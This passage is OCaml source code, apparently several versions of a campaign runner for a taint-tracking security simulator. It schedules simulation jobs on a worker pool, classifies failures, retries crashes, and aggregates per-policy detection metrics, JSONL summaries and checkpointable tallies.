    let ms = Ptaint_mem.Memory.stats res.Ptaint_sim.Sim.machine.Ptaint_cpu.Machine.mem in
    [ ("instructions", res.Ptaint_sim.Sim.instructions);
      ("syscalls", res.Ptaint_sim.Sim.syscalls);
      ("tainted loads", ms.Ptaint_mem.Memory.tainted_loads);
      ("tainted stores", ms.Ptaint_mem.Memory.tainted_stores) ]
    @ (match res.Ptaint_sim.Sim.outcome with
       | Ptaint_sim.Sim.Alert _ -> [ ("alerts", 1) ]
       | _ -> [])

(* Per-label registry: deterministic counters from the simulation
   results plus wall-clock and concurrency histograms from the job
   timings (the non-deterministic rows are kept apart so batch outputs
   can still be diffed "modulo timings"). *)
let metrics_of results =
  let module M = Ptaint_obs.Metrics in
  let regs = ref [] (* label -> registry, reverse first-seen order *) in
  let registry label =
    match List.assoc_opt label !regs with
    | Some m -> m
    | None ->
      let m = M.create () in
      regs := (label, m) :: !regs;
      m
  in
  let concurrency_at t =
    List.fold_left
      (fun n r -> if r.timing.started <= t && t < r.timing.finished then n + 1 else n)
      0 results
  in
  List.iter
    (fun r ->
      let m = registry r.policy_label in
      List.iter (fun (name, by) -> M.inc ~by (M.counter m name)) (job_counters r);
      (* Superblock-tier telemetry rides as per-job distributions, not
         counters: the numbers depend on how warm the (shared) tier
         was when each job started, so they live with the other
         non-deterministic rows that only render under [~timings]. *)
      (match r.status with
       | Finished res ->
         List.iter
           (fun (event, n) ->
             M.observe
               (M.histogram m ("superblock " ^ event))
               (float_of_int n))
           (Ptaint_cpu.Machine.superblock_counters
              res.Ptaint_sim.Sim.machine)
       | Failed _ -> ());
      M.observe (M.histogram m "job wall ms")
        ((r.timing.finished -. r.timing.started) *. 1000.);
      (* Queue depth, post-hoc: how many jobs were in flight when this
         one started — the pool's effective concurrency. *)
      M.observe (M.histogram m "concurrent jobs")
        (float_of_int (concurrency_at r.timing.started)))
    results;
  List.rev !regs

let stats_of ~wall_seconds results =
  let detections = ref [] (* label -> count, reverse first-seen order *) in
  let bump label by =
    match List.assoc_opt label !detections with
    | Some n -> detections := (label, n + by) :: List.remove_assoc label !detections
    | None -> detections := (label, by) :: !detections
  in
  let failed = ref 0 and violations = ref 0 and insns = ref 0 and sys = ref 0 in
  let seen_order = ref [] in
  List.iter
    (fun r ->
      if not (List.mem r.policy_label !seen_order) then
        seen_order := r.policy_label :: !seen_order;
      if r.violation <> None then incr violations;
      match r.status with
      | Failed _ -> incr failed
      | Finished res ->
        insns := !insns + res.Ptaint_sim.Sim.instructions;
        sys := !sys + res.Ptaint_sim.Sim.syscalls;
        bump r.policy_label
          (match res.Ptaint_sim.Sim.outcome with Ptaint_sim.Sim.Alert _ -> 1 | _ -> 0))
    results;
  { jobs = List.length results;
    failed = !failed;
    violations = !violations;
    wall_seconds;
    instructions = !insns;
    syscalls = !sys;
    detections =
      List.rev_map (fun l -> (l, Option.value ~default:0 (List.assoc_opt l !detections)))
        !seen_order;
    metrics = metrics_of results }

let outcome_name r =
  match r.status with
  | Failed f -> kind_name f.kind
  | Finished res -> (
    match res.Ptaint_sim.Sim.outcome with
    | Ptaint_sim.Sim.Exited _ -> "exited"
    | Ptaint_sim.Sim.Alert _ -> "alert"
    | Ptaint_sim.Sim.Fault _ -> "fault"
    | Ptaint_sim.Sim.Trap _ -> "trap"
    | Ptaint_sim.Sim.Out_of_fuel -> "out-of-fuel")

(* Structured-log adoption: job failures carry the typed taxonomy as
   fields, so a log pipeline can aggregate by kind without parsing
   prose.  Logging happens on the submitting domain only. *)
let log_failure log r =
  match r.status with
  | Finished _ -> ()
  | Failed f ->
    let module L = Ptaint_obs.Log in
    let kind_fields =
      match f.kind with
      | Timeout { seconds } -> [ L.float "seconds" seconds ]
      | Guest_fault { sysnum; pc; _ } -> [ L.int "sysnum" sysnum; L.int "pc" pc ]
      | Loader_error { where; message } -> [ L.str "where" where; L.str "message" message ]
      | Crashed -> [ L.str "error" f.exn ]
    in
    let trace_fields =
      match r.trace with
      | Some (tid, span) -> [ L.str "trace" (L.hex_id tid); L.int "span" span ]
      | None -> []
    in
    L.warn log ~src:"campaign" "job failed"
      ([ L.str "tag" r.name; L.str "policy" r.policy_label;
         L.str "kind" (kind_name f.kind); L.int "attempts" r.attempts ]
       @ kind_fields @ trace_fields)

let run ?domains ?trace ?log ?job_timeout ?(retries = 0) ?(backoff = 0.05) jobs =
  let t0 = Unix.gettimeofday () in
  (* Load each distinct image once up front; workers restore the
     copy-on-write snapshot per run.  Template building never brings a
     job down: a program the loader rejects simply has no template and
     fails on its own worker, where [exec] contains it.  Spec jobs
     whose program was pre-built on the submitting domain (and that
     run injection-free — the fault injector boots its own session)
     share templates the same way. *)
  let templates =
    Ptaint_sim.Sim.templates_of
      (List.filter_map
         (fun j ->
           match j.j_work with
           | Sim_run (c, p) -> Some (c, p)
           | Spec ({ Job.injections = []; config; _ }, Some p) -> Some (config, p)
           | Spec _ | Thunk _ -> None)
         jobs)
  in
  let run_sim ~deadline config program =
    Ptaint_sim.Sim.run_with ?deadline templates config program
  in
  let results = Pool.map ?domains (exec ~job_timeout ~retries ~backoff run_sim) jobs in
  let wall_seconds = Unix.gettimeofday () -. t0 in
  (* Job spans are emitted from the submitting domain only, after the
     pool has drained — the trace is single-domain mutable state. *)
  (match trace with
   | Some tr ->
     List.iter
       (fun r ->
         Ptaint_obs.Trace.emit tr
           (Ptaint_obs.Event.Job
              { name = r.name;
                label = r.policy_label;
                t0_us = (r.timing.started -. t0) *. 1e6;
                dur_us = (r.timing.finished -. r.timing.started) *. 1e6;
                domain = r.timing.domain;
                outcome = outcome_name r;
                trace = r.trace }))
       results
   | None -> ());
  (match log with
   | Some l -> List.iter (log_failure l) results
   | None -> ());
  (results, stats_of ~wall_seconds results)

(* The unified {!Job.t} entry point: pre-build every payload once on
   the submitting domain (deduplicated by content hash, so a batch
   that submits the same source many times compiles it once), then
   run through the same pool/exec/templates machinery as [run]. *)
let run_jobs ?domains ?trace ?log ?job_timeout ?retries ?backoff specs =
  let built : (string, Ptaint_asm.Program.t) Hashtbl.t = Hashtbl.create 16 in
  let prebuild spec =
    let key = Job.image_key spec in
    match Hashtbl.find_opt built key with
    | Some p -> Some p
    | None -> (
      match Job.program spec with
      | p ->
        Hashtbl.add built key p;
        Some p
      | exception _ ->
        (* Malformed source: no pre-built program, the worker rebuilds
           and [exec] classifies the toolchain failure. *)
        None)
  in
  run ?domains ?trace ?log ?job_timeout ?retries ?backoff
    (List.map (fun spec -> of_job ?program:(prebuild spec) spec) specs)

(* One job, no pool — the daemon's per-worker entry point.  [run_sim]
   lets the caller route execution through its own template cache;
   [program] skips the payload build when the caller already holds the
   compiled image. *)
let run_job ?job_timeout ?(retries = 0) ?(backoff = 0.05) ?run_sim ?program spec =
  let run_sim =
    match run_sim with
    | Some f -> f
    | None -> fun ~deadline config p -> Ptaint_sim.Sim.run ?deadline ~config p
  in
  exec ~job_timeout ~retries ~backoff run_sim (of_job ?program spec)

(* --- streaming campaigns ---

   [run]/[run_jobs] accumulate one [job_result] per job — the right
   shape for a few hundred jobs, the wrong one for a generative
   campaign, where at 10^6 jobs the result list (and the machines and
   kernels it pins) dwarfs the working set.  The streaming engine
   keeps O(window) state instead: jobs are pulled lazily from a
   sequence, executed on a persistent worker pool through the arena
   boot path, reduced on the worker to a compact {!job_summary}, and
   folded — in submission order, whatever the scheduling — into an
   incremental {!tally} whose counters are byte-identical to the
   batch path's {!stats}. *)

type job_summary = {
  s_index : int;
  s_name : string;
  s_label : string;
  s_outcome : string;
  s_counters : (string * int) list;
  s_failed : bool;
  s_violation : bool;
  s_detected : bool;
  s_alert_pc : int option;
  s_instructions : int;
  s_syscalls : int;
  s_attempts : int;
  s_trace : (int * int) option;
}

(* Runs on the worker, before its arena is rebooted: everything the
   aggregation and the JSONL sink need is extracted here, so the
   [job_result] (whose machine may alias the domain arena) is never
   retained past the job that produced it. *)
let summarize idx (r : job_result) =
  let failed, detected, alert_pc, instructions, syscalls =
    match r.status with
    | Failed _ -> (true, false, None, 0, 0)
    | Finished res -> (
      match res.Ptaint_sim.Sim.outcome with
      | Ptaint_sim.Sim.Alert a ->
        ( false, true,
          Some a.Ptaint_cpu.Machine.alert_pc,
          res.Ptaint_sim.Sim.instructions, res.Ptaint_sim.Sim.syscalls )
      | _ ->
        (false, false, None, res.Ptaint_sim.Sim.instructions, res.Ptaint_sim.Sim.syscalls))
  in
  { s_index = idx;
    s_name = r.name;
    s_label = r.policy_label;
    s_outcome = outcome_name r;
    s_counters = job_counters r;
    s_failed = failed;
    s_violation = r.violation <> None;
    s_detected = detected;
    s_alert_pc = alert_pc;
    s_instructions = instructions;
    s_syscalls = syscalls;
    s_attempts = r.attempts;
    s_trace = r.trace }

let json_escape s =
  let b = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | '\r' -> Buffer.add_string b "\\r"
      | '\t' -> Buffer.add_string b "\\t"
      | c when Char.code c < 0x20 -> Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char b c)
    s;
  Buffer.contents b

let jsonl_of_summary s =
  Printf.sprintf
    "{\"i\":%d,\"tag\":\"%s\",\"policy\":\"%s\",\"outcome\":\"%s\",\"attempts\":%d,\"instructions\":%d,\"syscalls\":%d%s}"
    s.s_index (json_escape s.s_name) (json_escape s.s_label) (json_escape s.s_outcome)
    s.s_attempts s.s_instructions s.s_syscalls
    ((match s.s_alert_pc with
      | Some pc -> Printf.sprintf ",\"alert_pc\":%d" pc
      | None -> "")
     ^
     (* traceless campaigns (the generative path) keep their historic
        byte-exact JSONL shape; the field appears only when a client
        seeded an id *)
     match s.s_trace with
     | Some (tid, span) -> Printf.sprintf ",\"trace\":\"%016x\",\"span\":%d" tid span
     | None -> "")

(* The incremental aggregate: the counter half of {!stats}, plus the
   coverage-style fitness inputs (distinct detection sites).  Folding
   summaries in submission order reproduces {!metrics_of}'s per-label
   counter registries exactly — same labels, same first-seen order,
   same registration order within each registry — so a streamed
   campaign's counters-only [metrics_table] is byte-identical to the
   list-accumulating path's.  (The wall-clock/concurrency histograms
   are a property of one uninterrupted in-memory run; a tally, which
   must survive checkpoint round-trips, deliberately carries none.) *)
type tally = {
  mutable t_jobs : int;
  mutable t_failed : int;
  mutable t_violations : int;
  mutable t_instructions : int;
  mutable t_syscalls : int;
  t_detections : (string, int) Hashtbl.t;
  mutable t_metrics : (string * Ptaint_obs.Metrics.t) list;  (* reverse first-seen *)
  mutable t_sites : int list;  (* distinct alert pcs, ascending *)
}

let tally () =
  { t_jobs = 0;
    t_failed = 0;
    t_violations = 0;
    t_instructions = 0;
    t_syscalls = 0;
    t_detections = Hashtbl.create 8;
    t_metrics = [];
    t_sites = [] }

let tally_jobs t = t.t_jobs
let tally_sites t = t.t_sites

let rec insert_site pc = function
  | [] -> [ pc ]
  | x :: _ as l when pc < x -> pc :: l
  | x :: _ as l when pc = x -> l
  | x :: tl -> x :: insert_site pc tl

let tally_add t (s : job_summary) =
  let module M = Ptaint_obs.Metrics in
  t.t_jobs <- t.t_jobs + 1;
  if s.s_failed then t.t_failed <- t.t_failed + 1;
  if s.s_violation then t.t_violations <- t.t_violations + 1;
  t.t_instructions <- t.t_instructions + s.s_instructions;
  t.t_syscalls <- t.t_syscalls + s.s_syscalls;
  let m =
    match List.assoc_opt s.s_label t.t_metrics with
    | Some m -> m
    | None ->
      let m = M.create () in
      t.t_metrics <- (s.s_label, m) :: t.t_metrics;
      Hashtbl.replace t.t_detections s.s_label 0;
      m
  in
  List.iter (fun (name, by) -> M.inc ~by (M.counter m name)) s.s_counters;
  if s.s_detected then
    Hashtbl.replace t.t_detections s.s_label
      (1 + Option.value ~default:0 (Hashtbl.find_opt t.t_detections s.s_label));
  match s.s_alert_pc with
  | Some pc -> t.t_sites <- insert_site pc t.t_sites
  | None -> ()

let tally_stats ?(wall_seconds = 0.) t =
  let ordered = List.rev t.t_metrics in
  { jobs = t.t_jobs;
    failed = t.t_failed;
    violations = t.t_violations;
    wall_seconds;
    instructions = t.t_instructions;
    syscalls = t.t_syscalls;
    detections =
      List.map
        (fun (l, _) -> (l, Option.value ~default:0 (Hashtbl.find_opt t.t_detections l)))
        ordered;
    metrics = ordered }

(* Byte-exact persistence image of a tally: every field is an int or a
   string, so a dump written to disk and loaded back yields a tally
   whose [metrics_table]/[pp_stats] renderings are byte-identical —
   the checkpoint/resume contract. *)
type tally_dump = {
  d_jobs : int;
  d_failed : int;
  d_violations : int;
  d_instructions : int;
  d_syscalls : int;
  d_detections : (string * int) list;  (* first-seen order *)
  d_counters : (string * (string * int) list) list;
      (* label -> counter rows, both in registration order *)
  d_sites : int list;
}

let dump_tally t =
  let module M = Ptaint_obs.Metrics in
  let ordered = List.rev t.t_metrics in
  { d_jobs = t.t_jobs;
    d_failed = t.t_failed;
    d_violations = t.t_violations;
    d_instructions = t.t_instructions;
    d_syscalls = t.t_syscalls;
    d_detections =
      List.map
        (fun (l, _) -> (l, Option.value ~default:0 (Hashtbl.find_opt t.t_detections l)))
        ordered;
    d_counters =
      List.map
        (fun (l, m) ->
          ( l,
            List.filter_map
              (fun (r : M.row) ->
                if r.M.kind = "counter" then Some (r.M.name, r.M.count) else None)
              (M.rows m) ))
        ordered;
    d_sites = t.t_sites }

let load_tally d =
  let module M = Ptaint_obs.Metrics in
  let t = tally () in
  t.t_jobs <- d.d_jobs;
  t.t_failed <- d.d_failed;
  t.t_violations <- d.d_violations;
  t.t_instructions <- d.d_instructions;
  t.t_syscalls <- d.d_syscalls;
  List.iter
    (fun (l, rows) ->
      let m = M.create () in
      List.iter (fun (name, v) -> M.inc ~by:v (M.counter m name)) rows;
      t.t_metrics <- (l, m) :: t.t_metrics)
    d.d_counters;
  List.iter (fun (l, n) -> Hashtbl.replace t.t_detections l n) d.d_detections;
  t.t_sites <- d.d_sites;
  t

(* Shared image cache for streaming workers.  Distinct programs in a
   generative stream recur constantly (the variant pool is bounded),
   so the first worker to see a payload builds program + boot image
   and every later job reuses both by reference.  Builds run outside
   the lock so distinct programs compile in parallel; the bound is a
   generational flush (exceeding [capacity] clears the table), which
   is free in the steady state where the variant pool fits. *)
module Images = struct
  type entry = { e_program : Ptaint_asm.Program.t; e_template : Ptaint_sim.Sim.template }

  type t = {
    mu : Mutex.t;
    tbl : (string, entry) Hashtbl.t;
    capacity : int;
  }

  let create ?(capacity = 128) () =
    { mu = Mutex.create (); tbl = Hashtbl.create 64; capacity }

  let obtain t spec =
    let key = Job.image_key spec in
    Mutex.lock t.mu;
    match Hashtbl.find_opt t.tbl key with
    | Some e ->
      Mutex.unlock t.mu;
      e
    | None -> (
      Mutex.unlock t.mu;
      let program = Job.program spec in
      let template = Ptaint_sim.Sim.prepare ~config:spec.Job.config program in
      Mutex.lock t.mu;
      match Hashtbl.find_opt t.tbl key with
      | Some e ->
        (* racing build: first insert wins so every job shares it *)
        Mutex.unlock t.mu;
        e
      | None ->
        if Hashtbl.length t.tbl >= t.capacity then Hashtbl.reset t.tbl;
        let e = { e_program = program; e_template = template } in
        Hashtbl.replace t.tbl key e;
        Mutex.unlock t.mu;
        e)
end

(* Streamed failures log from the summary (the full failure record
   never crosses the worker boundary): kind is the outcome name. *)
let log_failed_summary log (s : job_summary) =
  if s.s_failed then begin
    let module L = Ptaint_obs.Log in
    L.warn log ~src:"campaign" "job failed"
      ([ L.int "index" s.s_index; L.str "tag" s.s_name; L.str "policy" s.s_label;
         L.str "kind" s.s_outcome; L.int "attempts" s.s_attempts ]
       @
       match s.s_trace with
       | Some (tid, span) -> [ L.str "trace" (L.hex_id tid); L.int "span" span ]
       | None -> [])
  end

let run_stream ?domains ?log ?job_timeout ?(retries = 0) ?(backoff = 0.05) ?window ?(start = 0)
    ?(tally = tally ()) ?on_result ?on_progress jobs =
  let svc = Pool.service ?domains () in
  let window =
    match window with Some w -> max 1 w | None -> 4 * Pool.service_size svc
  in
  let images = Images.create () in
  let mu = Mutex.create () in
  let cv = Condition.create () in
  let completions : job_summary Queue.t = Queue.create () in
  (* out-of-order completions parked until the cursor reaches them;
     bounded by [window] *)
  let pending : (int, job_summary) Hashtbl.t = Hashtbl.create (2 * window) in
  let run_one idx (spec : Job.t) () =
    let summary =
      match
        let entry =
          (* injection plans boot their own session inside the fault
             injector; building a template for them would be wasted *)
          if spec.Job.injections <> [] then None
          else try Some (Images.obtain images spec) with _ -> None
        in
        let program = Option.map (fun e -> e.Images.e_program) entry in
        let run_sim ~deadline config p =
          match entry with
          | Some e -> Ptaint_sim.Sim.run_template_arena ?deadline ~config e.Images.e_template
          | None -> Ptaint_sim.Sim.run ?deadline ~config p
        in
        summarize idx (exec ~job_timeout ~retries ~backoff run_sim (of_job ?program spec))
      with
      | s -> s
      | exception _ ->
        (* [exec] contains everything, so this is belt and braces: the
           pump must never lose a completion, or the reorder flush
           stalls forever at this index. *)
        { s_index = idx;
          s_name = spec.Job.tag;
          s_label = job_label spec;
          s_outcome = "crashed";
          s_counters = [ ("jobs", 1); ("crashed", 1) ];
          s_failed = true;
          s_violation = false;
          s_detected = false;
          s_alert_pc = None;
          s_instructions = 0;
          s_syscalls = 0;
          s_attempts = 1;
          s_trace = spec.Job.trace }
    in
    Mutex.lock mu;
    Queue.push summary completions;
    Condition.signal cv;
    Mutex.unlock mu
  in
  let next = ref jobs in
  let submitted = ref start and cursor = ref start and exhausted = ref false in
  let pump_submit () =
    while (not !exhausted) && !submitted - !cursor < window do
      match !next () with
      | Seq.Nil -> exhausted := true
      | Seq.Cons (spec, rest) ->
        next := rest;
        Pool.post svc (run_one !submitted spec);
        incr submitted
    done
  in
  pump_submit ();
  while !cursor < !submitted do
    Mutex.lock mu;
    while Queue.is_empty completions do
      Condition.wait cv mu
    done;
    let batch = Queue.fold (fun acc c -> c :: acc) [] completions in
    Queue.clear completions;
    Mutex.unlock mu;
    List.iter (fun s -> Hashtbl.replace pending s.s_index s) batch;
    let progressed = ref false in
    while Hashtbl.mem pending !cursor do
      let s = Hashtbl.find pending !cursor in
      Hashtbl.remove pending !cursor;
      tally_add tally s;
      (match log with Some l -> log_failed_summary l s | None -> ());
      (match on_result with Some f -> f s | None -> ());
      incr cursor;
      progressed := true
    done;
    if !progressed then (match on_progress with Some f -> f ~cursor:!cursor tally | None -> ());
    pump_submit ()
  done;
  Pool.stop svc;
  (tally, !cursor)

let metrics_table_of ?(timings = false) metrics =
  let module M = Ptaint_obs.Metrics in
  let fmt_f v =
    if Float.is_integer v && Float.abs v < 1e15 then Printf.sprintf "%.0f" v
    else Printf.sprintf "%.2f" v
  in
  let rows =
    List.concat_map
      (fun (label, m) ->
        List.filter_map
          (fun (r : M.row) ->
            match r.M.kind with
            | "counter" -> Some [ label; r.M.name; string_of_int r.M.count ]
            | _ when timings ->
              Some
                [ label;
                  r.M.name;
                  Printf.sprintf "n=%d mean=%s min=%s max=%s" r.M.count (fmt_f r.M.mean)
                    (fmt_f r.M.min) (fmt_f r.M.max) ]
            | _ -> None)
          (M.rows m))
      metrics
  in
  Ptaint_report.Report.table ~headers:[ "policy"; "metric"; "value" ] rows

let metrics_table ?timings stats = metrics_table_of ?timings stats.metrics

let pp_stats ppf s =
  Format.fprintf ppf "campaign: %d jobs (%d failed, %d violations), %d guest instructions, %d syscalls; detections: %s [%.2fs wall]"
    s.jobs s.failed s.violations s.instructions s.syscalls
    (if s.detections = [] then "-"
     else
       String.concat ", "
         (List.map (fun (l, n) -> Printf.sprintf "%s=%d" l n) s.detections))
    s.wall_seconds
