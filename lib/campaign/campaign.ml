module Pool = Ptaint_pool.Pool

(* A job built from a (config, program) pair keeps both visible so
   the campaign can share one loaded image (a Sim snapshot template)
   across every job running that image; opaque thunks always run
   as-is. *)
type work =
  | Sim_run of Ptaint_sim.Sim.config * Ptaint_asm.Program.t
  | Thunk of (unit -> Ptaint_sim.Sim.result)

type job = {
  j_name : string;
  j_policy_label : string;
  j_expect : (Ptaint_sim.Sim.result -> string option) option;
  j_work : work;
}

let label_of_policy (p : Ptaint_cpu.Policy.t) =
  match p.Ptaint_cpu.Policy.mode with
  | Ptaint_cpu.Policy.No_protection -> "no protection"
  | Ptaint_cpu.Policy.Control_data_only -> "control-data only"
  | Ptaint_cpu.Policy.Pointer_taintedness -> "pointer taintedness"

let job ~name ?policy_label ?expect ~config program =
  { j_name = name;
    j_policy_label =
      (match policy_label with
       | Some l -> l
       | None -> label_of_policy config.Ptaint_sim.Sim.policy);
    j_expect = expect;
    j_work = Sim_run (config, program) }

let job_thunk ~name ?(policy_label = "unlabelled") ?expect thunk =
  { j_name = name; j_policy_label = policy_label; j_expect = expect; j_work = Thunk thunk }

let job_name j = j.j_name

type failure = { exn : string; backtrace : string }

type status =
  | Finished of Ptaint_sim.Sim.result
  | Crashed of failure

type job_result = {
  name : string;
  policy_label : string;
  status : status;
  violation : string option;
}

let result_exn r =
  match r.status with
  | Finished result -> result
  | Crashed f -> invalid_arg (Printf.sprintf "job %s crashed: %s" r.name f.exn)

type stats = {
  jobs : int;
  crashed : int;
  violations : int;
  wall_seconds : float;
  instructions : int;
  syscalls : int;
  detections : (string * int) list;
}

let exec run_sim j =
  match
    (match j.j_work with
     | Sim_run (config, program) -> run_sim config program
     | Thunk f -> f ())
  with
  | result ->
    let violation = match j.j_expect with None -> None | Some f -> f result in
    { name = j.j_name; policy_label = j.j_policy_label; status = Finished result; violation }
  | exception e ->
    let backtrace = Printexc.get_backtrace () in
    { name = j.j_name;
      policy_label = j.j_policy_label;
      status = Crashed { exn = Printexc.to_string e; backtrace };
      violation = None }

let stats_of ~wall_seconds results =
  let detections = ref [] (* label -> count, reverse first-seen order *) in
  let bump label by =
    match List.assoc_opt label !detections with
    | Some n -> detections := (label, n + by) :: List.remove_assoc label !detections
    | None -> detections := (label, by) :: !detections
  in
  let crashed = ref 0 and violations = ref 0 and insns = ref 0 and sys = ref 0 in
  let seen_order = ref [] in
  List.iter
    (fun r ->
      if not (List.mem r.policy_label !seen_order) then
        seen_order := r.policy_label :: !seen_order;
      if r.violation <> None then incr violations;
      match r.status with
      | Crashed _ -> incr crashed
      | Finished res ->
        insns := !insns + res.Ptaint_sim.Sim.instructions;
        sys := !sys + res.Ptaint_sim.Sim.syscalls;
        bump r.policy_label
          (match res.Ptaint_sim.Sim.outcome with Ptaint_sim.Sim.Alert _ -> 1 | _ -> 0))
    results;
  { jobs = List.length results;
    crashed = !crashed;
    violations = !violations;
    wall_seconds;
    instructions = !insns;
    syscalls = !sys;
    detections =
      List.rev_map (fun l -> (l, Option.value ~default:0 (List.assoc_opt l !detections)))
        !seen_order }

let run ?domains jobs =
  let t0 = Unix.gettimeofday () in
  (* Load each distinct image once up front; workers restore the
     copy-on-write snapshot per run.  Template building never brings a
     job down: a program the loader rejects simply has no template and
     crashes on its own worker, where [exec] contains it. *)
  let templates =
    Ptaint_sim.Sim.templates_of
      (List.filter_map
         (fun j -> match j.j_work with Sim_run (c, p) -> Some (c, p) | Thunk _ -> None)
         jobs)
  in
  let results = Pool.map ?domains (exec (Ptaint_sim.Sim.run_with templates)) jobs in
  let wall_seconds = Unix.gettimeofday () -. t0 in
  (results, stats_of ~wall_seconds results)

let pp_stats ppf s =
  Format.fprintf ppf "campaign: %d jobs (%d crashed, %d violations), %d guest instructions, %d syscalls; detections: %s [%.2fs wall]"
    s.jobs s.crashed s.violations s.instructions s.syscalls
    (if s.detections = [] then "-"
     else
       String.concat ", "
         (List.map (fun (l, n) -> Printf.sprintf "%s=%d" l n) s.detections))
    s.wall_seconds
