module Pool = Ptaint_pool.Pool

(* A job built from a (config, program) pair keeps both visible so
   the campaign can share one loaded image (a Sim snapshot template)
   across every job running that image; opaque thunks always run
   as-is.  [Spec] is the unified {!Job.t} path every front end (CLI,
   batch runner, experiments, ptaintd) funnels through — it may carry
   a program pre-built by the submitting domain so the template
   sharing still applies. *)
type work =
  | Sim_run of Ptaint_sim.Sim.config * Ptaint_asm.Program.t
  | Spec of Job.t * Ptaint_asm.Program.t option
  | Thunk of (unit -> Ptaint_sim.Sim.result)

type job = {
  j_name : string;
  j_policy_label : string;
  j_expect : (Ptaint_sim.Sim.result -> string option) option;
  j_work : work;
}

let label_of_policy (p : Ptaint_cpu.Policy.t) =
  match p.Ptaint_cpu.Policy.mode with
  | Ptaint_cpu.Policy.No_protection -> "no protection"
  | Ptaint_cpu.Policy.Control_data_only -> "control-data only"
  | Ptaint_cpu.Policy.Pointer_taintedness -> "pointer taintedness"

let job ~name ?policy_label ?expect ~config program =
  { j_name = name;
    j_policy_label =
      (match policy_label with
       | Some l -> l
       | None -> label_of_policy config.Ptaint_sim.Sim.policy);
    j_expect = expect;
    j_work = Sim_run (config, program) }

let job_thunk ~name ?(policy_label = "unlabelled") ?expect thunk =
  { j_name = name; j_policy_label = policy_label; j_expect = expect; j_work = Thunk thunk }

let job_label (spec : Job.t) =
  match spec.Job.policy_label with
  | Some l -> l
  | None -> label_of_policy spec.Job.config.Ptaint_sim.Sim.policy

(* [program] pre-builds on the submitting domain when available so
   identical images share one snapshot template; [None] defers the
   (re)build to the worker, where a toolchain failure is contained
   and classified. *)
let of_job ?program (spec : Job.t) =
  { j_name = spec.Job.tag;
    j_policy_label = job_label spec;
    j_expect = spec.Job.expect;
    j_work = Spec (spec, program) }

let job_name j = j.j_name

(* --- typed failure taxonomy ---

   A job that does not produce a simulation result fails for one of
   four reasons, and the campaign must be able to tell them apart
   without string matching: a watchdog timeout is an experiment
   parameter, a guest fault is a property of the guest under test, a
   loader error is a malformed input, and only the remainder is an
   actual crash of the harness (the sole transient kind worth
   retrying). *)

type failure_kind =
  | Timeout of { seconds : float }
  | Guest_fault of { sysnum : int; pc : int; args : int list }
  | Loader_error of { where : string; message : string }
  | Crashed

type failure = { kind : failure_kind; exn : string; backtrace : string }

type status =
  | Finished of Ptaint_sim.Sim.result
  | Failed of failure

let kind_name = function
  | Timeout _ -> "timeout"
  | Guest_fault _ -> "guest fault"
  | Loader_error _ -> "loader error"
  | Crashed -> "crashed"

let classify ~job_timeout = function
  | Ptaint_sim.Sim.Timeout _ ->
    Timeout { seconds = Option.value ~default:0. job_timeout }
  | Ptaint_os.Kernel.Guest_fault { sysnum; pc; args } -> Guest_fault { sysnum; pc; args }
  | Ptaint_asm.Loader.Error { where; message } -> Loader_error { where; message }
  | Ptaint_asm.Assembler.Asm_error { line; message } ->
    Loader_error { where = Printf.sprintf "line %d" line; message }
  | Ptaint_cc.Cc.Error { line; message; phase } ->
    Loader_error { where = Printf.sprintf "%s, line %d" phase line; message }
  | _ -> Crashed

type timing = { started : float; finished : float; domain : int }

type job_result = {
  name : string;
  policy_label : string;
  status : status;
  violation : string option;
  attempts : int;
  timing : timing;
}

let result_exn r =
  match r.status with
  | Finished result -> result
  | Failed f ->
    invalid_arg
      (Printf.sprintf "job %s failed (%s) after %d attempt(s): %s\n%s" r.name
         (kind_name f.kind) r.attempts f.exn f.backtrace)

type stats = {
  jobs : int;
  failed : int;
  violations : int;
  wall_seconds : float;
  instructions : int;
  syscalls : int;
  detections : (string * int) list;
  metrics : (string * Ptaint_obs.Metrics.t) list;
}

(* run_sim is the template-sharing closure [run] builds; [deadline]
   arms the cooperative watchdog inside the fuel-sliced engine.  A
   {!Job.t}'s own [timeout] overrides the campaign-wide default, for
   both the deadline and the reported [Timeout { seconds }]. *)
let exec ~job_timeout ~retries ~backoff run_sim j =
  let job_timeout =
    match j.j_work with
    | Spec ({ Job.timeout = Some t; _ }, _) -> Some t
    | _ -> job_timeout
  in
  let started = Unix.gettimeofday () in
  let close ~attempts status violation =
    { name = j.j_name;
      policy_label = j.j_policy_label;
      status;
      violation;
      attempts;
      timing =
        { started;
          finished = Unix.gettimeofday ();
          domain = (Domain.self () :> int) } }
  in
  let attempt () =
    (* The deadline is absolute wall-clock, re-derived per attempt so a
       retried job gets its full budget back. *)
    let deadline = Option.map (fun t -> Unix.gettimeofday () +. t) job_timeout in
    match j.j_work with
    | Sim_run (config, program) -> run_sim ~deadline config program
    | Spec (spec, pre) -> (
      let program = match pre with Some p -> p | None -> Job.program spec in
      match spec.Job.injections with
      | [] -> run_sim ~deadline spec.Job.config program
      | plan ->
        (Ptaint_fi.Fi.run_plan ~config:spec.Job.config ?deadline ~plan program)
          .Ptaint_fi.Fi.result)
    | Thunk f -> f ()
  in
  let rec go attempts =
    match attempt () with
    | result ->
      (* A broken expectation function must not bring the job (let
         alone the pool) down: its exception is the violation. *)
      let violation =
        match j.j_expect with
        | None -> None
        | Some f -> (
          try f result with e -> Some ("expect raised: " ^ Printexc.to_string e))
      in
      close ~attempts (Finished result) violation
    | exception e ->
      let bt = Printexc.get_raw_backtrace () in
      let kind = classify ~job_timeout e in
      (* Only genuine crashes are plausibly transient; timeouts, guest
         faults and loader errors are deterministic properties of the
         job and retrying them just burns the budget. *)
      (match kind with
       | Crashed when attempts <= retries ->
         if backoff > 0. then Unix.sleepf (backoff *. float_of_int (1 lsl (attempts - 1)));
         go (attempts + 1)
       | _ ->
         close ~attempts
           (Failed
              { kind;
                exn = Printexc.to_string e;
                backtrace = Printexc.raw_backtrace_to_string bt })
           None)
  in
  go 1

(* The deterministic counter deltas one job contributes to its policy
   label's registry, in registration order.  This is the unit the
   daemon streams per finished job: a client merging these deltas in
   submission order rebuilds byte-identical per-label registries,
   because {!metrics_of} below is defined as exactly that merge. *)
let job_counters r =
  let kind_counter = function
    | Timeout _ -> "timeouts"
    | Guest_fault _ -> "guest faults"
    | Loader_error _ -> "loader errors"
    | Crashed -> "crashed"
  in
  [ ("jobs", 1) ]
